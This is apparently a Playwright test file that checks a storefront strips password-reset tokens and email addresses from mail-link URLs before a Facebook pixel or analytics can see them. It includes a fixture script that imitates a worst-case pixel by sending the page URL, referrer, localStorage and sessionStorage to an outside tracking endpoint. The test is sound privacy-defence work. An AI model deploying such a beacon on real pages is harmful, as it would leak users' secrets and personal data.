import type { Page, Request } from '@playwright/test';
import { alertsPath, paths } from '../lib/platform/urls/paths.ts';
import { startFakeUpstream } from './support/fake-upstream.ts';
import { startStorefront } from './support/storefront.ts';
import { expect, test, waitForHydration } from './support/test.ts';

const secretPages = [paths.resetPassword, alertsPath];
const secret = 's3cr3t-0f-a-mail';
const query = `?utm_source=mail&email=mona%40shop.example&token=${secret}`;
/** Stands in for the pixel's script: sends every command with all that it finds in the page. */
const spyingScript = `fbq.callMethod = (...call) => {
  const found = [call, location.href, document.referrer, localStorage, sessionStorage];
  new Image().src = 'https://www.facebook.com/tr/?data=' + encodeURIComponent(JSON.stringify(found));
};
fbq.queue.forEach((call) => fbq.callMethod(...call));`;

/** Everything that a page requested, each with its headers and body. */
async function recordRequests(page: Page) {
  const requests: Request[] = [];
  page.on('request', (request) => requests.push(request));
  await page.route(/facebook\.|\/_vercel\//, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: route.request().url().includes('fbevents') ? spyingScript : '',
    }),
  );
  return async () =>
    Promise.all(
      requests.map(async (request) => {
        const { referer } = await request.allHeaders();
        return {
          url: decodeURIComponent(request.url()),
          referer: referer ?? '',
          body: request.postData() ?? '',
        };
      }),
    );
}

test('the secret of a mail reaches nobody but its page', async ({ context }) => {
  test.setTimeout(120_000);
  const upstream = await startFakeUpstream();
  // Any answer but that of a path that does not exist says that the API has the calls.
  upstream.setBehaviour('/StockAlerts', 'status 401');
  upstream.setBehaviour('/StockAlerts-', 'status 404');
  const storefront = await startStorefront({
    API_BASE_URL: upstream.url,
    AD_PIXEL_ID: '1234567890',
    AD_PIXEL_EVENTS: 'all',
    ANALYTICS: 'vercel',
    ANALYTICS_PATH: '/_vercel',
    TENANTS_FILE: 'tenants.json',
  });
  try {
    for (const path of secretPages.flatMap((secretPage) => [secretPage, `/ar${secretPage}`])) {
      const page = await context.newPage();
      const recorded = await recordRequests(page);
      await page.goto(storefront.origin + path + query);
      await waitForHydration(page);
      await expect(page).toHaveURL(`${storefront.origin}${path}?utm_source=mail`);
      if (path.includes('reset-password')) {
        await page.reload();
        await waitForHydration(page);
        await expect(page.locator('input[type=email]').first()).toHaveValue('mona@shop.example');
        await page.locator('input[type=password]').first().fill('correct horse battery');
        await page.locator('main form button[type=submit]').click();
        await expect.poll(() => upstream.calls.filter(({ body }) => body.includes(secret)).length).toBe(1);
      }
      // Another page in the same document.
      await page.locator('header a[href$="/pages/about"]:visible').first().click({ timeout: 10_000 });
      await page.waitForURL(/\/pages\/about$/);
      await expect
        .poll(() => upstream.calls.filter(({ path: call }) => call === '/UtmTrackings/Log').length)
        .toBeGreaterThan(0);
      // The pixel is loaded there, once the page is idle.
      await expect
        .poll(async () => (await recorded()).some(({ url }) => url.includes('facebook.com/tr')))
        .toBe(true);
      const storage = await page.evaluate(() =>
        JSON.stringify([localStorage, sessionStorage, document.cookie]),
      );
      const requests = (await recorded()).filter(
        ({ url, body }) =>
          !url.startsWith(`${storefront.origin}${path}?`) &&
          !(url.endsWith('/Auth/ResetPassword') && body.includes(secret)),
      );
      expect(requests.some(({ url }) => url.includes('/scripts/'))).toBe(true);
      expect(JSON.stringify({ storage, requests })).not.toMatch(/s3cr3t|mona(?:@|%40)/);
      const events = upstream.calls.filter(
        ({ path: call }) => call !== '/Auth/ResetPassword' && !call.startsWith('/StockAlerts'),
      );
      expect(JSON.stringify(events)).not.toMatch(/s3cr3t|mona(?:@|%40)/);
      await page.close();
      upstream.calls.length = 0;
    }
  } finally {
    await storefront.stop();
    await upstream.stop();
  }
});

test('a reload and the other language keep the secret of a mail', async ({ page }) => {
  for (const path of secretPages) {
    await page.goto(`${path}?token=${secret}`);
    await waitForHydration(page);
    await expect(page).toHaveURL(path);
    await page.reload();
    await waitForHydration(page);
    await expect(page).toHaveURL(path);
    const other = page.waitForRequest((request) => request.url().endsWith(`/ar${path}?token=${secret}`));
    await page.getByRole('link', { name: 'العربية' }).first().click();
    expect((await other).isNavigationRequest()).toBe(true);
    await expect(page).toHaveURL(`/ar${path}`);
  }
});
